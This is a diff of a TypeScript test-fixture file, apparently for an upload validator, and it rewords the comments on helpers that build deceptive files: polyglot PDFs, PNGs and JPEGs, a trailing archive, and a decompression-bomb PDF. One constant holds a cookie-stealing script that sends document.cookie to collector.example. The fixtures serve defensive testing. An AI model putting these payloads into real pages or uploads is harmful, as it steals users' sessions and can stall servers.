@@ -3,7 +3,7 @@ import { PNG_SIGNATURE, pngChunk } from '@funding-desk/shared/server/files/plain
 import { pdfBytes } from '@funding-desk/shared/testing/factories';
 import sharp from 'sharp';
 
-/** A well-formed grey PNG that claims these sides. @param rows of zeros that are really there; default: none */
+/** A well-formed gray PNG that claims these sides. @param rows rows of zeros that it really contains; default: none */
 export function pngOf(width: number, height: number, rows = 0): Buffer {
   const head = Buffer.alloc(13);
   head.writeUInt32BE(width, 0);
@@ -18,7 +18,7 @@ export function pngOf(width: number, height: number, rows = 0): Buffer {
   ]);
 }
 
-/** An animated PNG of two frames by its mark; the first is a plain picture. */
+/** An animated PNG of two frames. The first is a plain picture. */
 export async function animatedPng(): Promise<Buffer> {
   const plain = await plainPng();
   const control = pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
@@ -38,7 +38,7 @@ export async function plainJpeg(): Promise<Buffer> {
     .toBuffer();
 }
 
-/** A JPEG whose header claims these sides, while the picture is small. */
+/** A small JPEG whose header claims these sides. */
 export async function jpegThatClaims(width: number, height: number): Promise<Buffer> {
   const bytes = Buffer.from(await plainJpeg());
   const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
@@ -49,7 +49,7 @@ export async function jpegThatClaims(width: number, height: number): Promise<Buf
 
 const SCRIPT = '<script>fetch("//collector.example/"+document.cookie)</script>';
 
-/** A PDF that a browser left to guess would take for a page: the page stands in a comment at its start. */
+/** A PDF that a sniffing browser would take for an HTML page: the page is in a comment at its start. */
 export function pdfThatIsPage(): Buffer {
   return Buffer.from(
     pdfBytes().toString('latin1').replace('%PDF-1.4\n', `%PDF-1.4\n%<html>${SCRIPT}</html>\n`),
@@ -57,7 +57,7 @@ export function pdfThatIsPage(): Buffer {
   );
 }
 
-/** A PDF behind which an archive stands, so that unpackers take it for that. */
+/** A PDF followed by an archive, so that unpackers accept it. */
 export function pdfThatIsArchive(): Buffer {
   const name = Buffer.from('payload.js');
   const end = Buffer.alloc(22);
@@ -68,7 +68,7 @@ export function pdfThatIsArchive(): Buffer {
   return Buffer.concat([pdfBytes(), local, name, end]);
 }
 
-/** A PDF of a megabyte that takes a reader in JavaScript some ten seconds: forty objects that unfold to 20 MB each. */
+/** A PDF of one megabyte that takes a JavaScript parser some ten seconds: forty objects that expand to 20 MB each. */
 export function slowPdf(): Buffer {
   const stream = deflateSync(Buffer.concat([Buffer.from('9 0 '), Buffer.alloc(20 * 1_048_576, ' ')]), { level: 9 });
   const end = Buffer.from('\nendstream\nendobj\n');
@@ -83,7 +83,7 @@ export async function pngThatIsPage(): Promise<Buffer> {
   return Buffer.concat([await plainPng(), Buffer.from(`<html>${SCRIPT}</html>`)]);
 }
 
-/** One that opens, decodes and is a script as well: its first bytes are a JPEG's. */
+/** A valid JPEG that is also a script. */
 export async function jpegThatIsScript(): Promise<Buffer> {
   const jpeg = await plainJpeg();
   const comment = Buffer.from(`*/=1;alert(1)/*`);
